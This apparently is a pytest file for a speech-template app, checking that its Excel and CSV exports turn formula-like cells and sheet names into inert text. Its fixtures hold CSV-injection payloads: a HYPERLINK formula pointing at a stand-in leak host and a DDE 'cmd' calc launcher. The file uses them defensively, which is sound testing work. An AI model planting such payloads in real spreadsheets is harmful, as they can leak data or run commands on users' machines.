"""No formula leaves the app: a template line, a value or an office name that looks like a
formula is written as text, and the sheet still reads back as written."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from speechapp.core.parsing import parse_speech
from speechapp.core.sheets import (
    SheetMarker,
    blank_context,
    read_sheet,
    sheet_rows,
    sheet_title,
    write_csv,
    write_xlsx,
)

MARKER = SheetMarker("7", "abc123")
HOSTILE_TEXT = "\n".join(
    (
        "关于全区经济工作的讲话",
        '=HYPERLINK("http://evil.example/leak","点此")新建×个项目。',
        "+SUM(1,2)完成投资×亿元。",
        "-今年以来增长×%。",
        "@SUM(A1)签约×家企业。",
        "'=1+1引号开头的×句。",
    )
)
HOSTILE_OFFICE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def speech():
    return parse_speech(HOSTILE_TEXT)


@pytest.fixture
def rows(speech):
    printed = {speech.slots[0].id: "=1+1", speech.slots[1].id: "-1.5"}
    offices = {slot.id: HOSTILE_OFFICE for slot in speech.slots}
    return sheet_rows(speech, printed, offices)


def test_the_hostile_template_gives_sentences_that_start_like_formulas(speech):
    contexts = [blank_context(speech, slot) for slot in speech.slots]
    assert [c[0] for c in contexts] == ["=", "+", "-", "@", "'"]


def test_every_cell_of_the_workbook_is_text(rows):
    data = write_xlsx({HOSTILE_OFFICE: rows, "-": rows[:1]}, MARKER)
    wb = load_workbook(io.BytesIO(data))
    hostile = [
        cell
        for ws in wb.worksheets
        for line in ws.iter_rows()
        for cell in line
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ]
    assert len(hostile) == 14  # 上下文 (5), 当前值 (3) and 责任单位 (6) cells
    assert all(cell.data_type == "s" for cell in hostile)
    assert all(cell.quotePrefix for cell in hostile)  # Excel keeps them text when edited


def test_no_sheet_title_starts_like_a_formula(rows):
    wb = load_workbook(io.BytesIO(write_xlsx({HOSTILE_OFFICE: rows, "-": rows[:1]}, MARKER)))
    titles = [t for t in wb.sheetnames if t != "_speechapp"]
    assert titles == ["_cmd|' _C calc'!A0", "_"]


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("=cmd", "_cmd"),
        ("@统计局", "_统计局"),
        ("+86办", "_86办"),
        ("'=引号'", "_引号"),
        ("办公室[一]:*?/\\", "办公室_一______"),
        ("统计\t局\r\n", "统计_局__"),
        ("很" * 40, "很" * 31),
        ("", "未分配"),
        ("History", "History(2)"),
    ],
)
def test_a_sheet_title_is_one_excel_accepts(name, title):
    assert sheet_title(name, set()) == title


def test_sheet_titles_are_unique_as_excel_compares_them():
    taken: set[str] = set()
    assert [sheet_title(n, taken) for n in ("ABC", "abc", "=abc")] == ["ABC", "abc(2)", "_abc"]


def test_csv_cells_that_start_like_a_formula_start_with_a_quote(rows):
    lines = list(csv.reader(io.StringIO(write_csv(rows, MARKER).decode("utf-8-sig"))))
    cells = [cell for line in lines[1:] for cell in line]
    assert "'" + HOSTILE_OFFICE in cells
    assert "'=1+1" in cells and "'-1.5" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    contexts = [line[2] for line in lines[1:-1]]
    assert [c[:2] for c in contexts] == ["'=", "'+", "'-", "'@", "''"]


def test_the_workbook_reads_back_as_written(speech, rows):
    returned = read_sheet(write_xlsx({HOSTILE_OFFICE: rows}, MARKER), "a.xlsx")
    assert [r.context for r in returned.rows] == [blank_context(speech, s) for s in speech.slots]
    assert not any(r.formula for r in returned.rows)


@pytest.mark.parametrize("keep_marker", [True, False])
def test_the_csv_reads_back_as_written(speech, rows, keep_marker):
    text = write_csv(rows, MARKER).decode("utf-8-sig")
    if not keep_marker:  # re-saved by hand: only the sentences tell the rows are ours
        text = "\r\n".join(text.split("\r\n")[:-2]) + "\r\n"
    returned = read_sheet(text.encode(), "a.csv")
    assert [r.context for r in returned.rows] == [blank_context(speech, s) for s in speech.slots]
    assert (returned.marker == MARKER) is keep_marker


def test_a_csv_saved_again_by_excel_without_the_quotes_reads_the_same(speech, rows):
    text = write_csv(rows, MARKER).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    for line in lines[1:]:
        line[2] = line[2][1:] if line[2].startswith("'") else line[2]
    out = io.StringIO()
    csv.writer(out).writerows(lines)
    returned = read_sheet(out.getvalue().encode(), "a.csv")
    contexts = [r.context for r in returned.rows]
    assert contexts[:4] == [blank_context(speech, s) for s in speech.slots][:4]


def test_a_value_typed_with_a_quote_in_a_csv_is_the_text_after_it():
    data = "编号,上下文,填写值\r\ns001,,'-5\r\ns002,,'=1+1\r\ns003,,=1+1\r\n".encode()
    rows = read_sheet(data, "a.csv").rows
    assert [(r.raw, r.formula) for r in rows] == [("-5", False), ("=1+1", False), ("=1+1", True)]


def test_a_template_with_a_control_character_still_gives_a_workbook():
    speech = parse_speech("关于工作的讲话\n今年\x01增长×%。")
    data = write_xlsx({"表": sheet_rows(speech, {}, {"s001": "统计\x07局"})}, MARKER)
    ws = load_workbook(io.BytesIO(data))["表"]
    assert (ws["C2"].value, ws["H2"].value) == ("今年增长【　】%。", "统计局")
